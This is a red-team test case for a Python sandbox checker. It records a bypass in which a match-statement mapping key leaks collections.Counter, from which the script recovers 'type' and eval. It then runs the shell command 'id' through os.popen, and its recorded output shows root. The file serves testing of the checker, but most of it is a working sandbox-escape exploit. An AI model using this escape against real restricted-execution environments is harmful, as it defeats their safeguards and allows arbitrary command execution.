# expect: reject module_value
# line: 30
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: thirteenth red team (fourth round), family M: a dotted value pattern or mapping-pattern key hands its value to the subject's __eq__ or get (a module, a library class or method, a class-holding attribute, a library container's bound method)

# Mechanism: a match mapping-pattern key 'case {dd.default_factory: _}' reads the class-holding name default_factory (refused as dd.default_factory in an expression, and by getattr/attrgetter/keyword class pattern since round 13c) as a dotted value pattern, and hands collections.Counter to the subject's get
# Goal reached: the builtin type by value (Counter.copy(P)), then eval by value (typing._GenericAlias + deepcopy, the 11b family A end gadget), called: runs id
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD e936e29
# No dunder name is given to a builtin at run time.
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

box = []

class Grab(dict):
    def get(self, key, default=None):
        box.append(key)
        return 1

class P:
    pass

dd = collections.defaultdict(collections.Counter)
match Grab(a=1):
    case {dd.default_factory: _}:
        pass
T = box[0].copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
